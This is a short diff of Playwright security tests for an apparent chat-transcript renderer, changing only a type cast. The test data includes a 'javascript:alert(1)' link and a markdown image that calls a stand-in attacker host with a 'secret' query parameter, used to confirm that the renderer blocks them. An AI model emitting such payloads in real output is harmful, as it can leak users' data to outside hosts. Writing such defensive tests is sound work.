@@ -19,7 +19,7 @@ test('the XSS corpus executes nothing and leaves no active markup', async ({ pag
       ],
     })
   })
-  await page.evaluate((events) => (window as any).dshHarness.renderTranscript(events), log.events)
+  await page.evaluate((events) => (window as any).dshHarness.renderTranscript(events), log.events as unknown[])
   await expect(page.locator('dsh-transcript [part~="assistant-message"]').first()).toBeVisible()
   await page.locator('dsh-transcript details').first().evaluate((d) => { (d as HTMLDetailsElement).open = true })
   await page.waitForTimeout(300)
@@ -38,7 +38,7 @@ test('links open only http(s)/mailto in a new context; images wait for a trusted
   await page.goto('/test-pages/ui-harness.html')
   await page.waitForSelector('body[data-ready]')
   const log = new WireLog().turn({ text: '[docs](https://docs.test/a) [bad](javascript:alert(1)) ![chart](https://attacker.test/leak?d=secret)' })
-  await page.evaluate((events) => (window as any).dshHarness.renderTranscript(events), log.events)
+  await page.evaluate((events) => (window as any).dshHarness.renderTranscript(events), log.events as unknown[])
   const link = page.locator('dsh-transcript a[part~="link"]')
   await expect(link).toHaveAttribute('href', 'https://docs.test/a')
   await expect(link).toHaveAttribute('rel', 'noopener noreferrer')
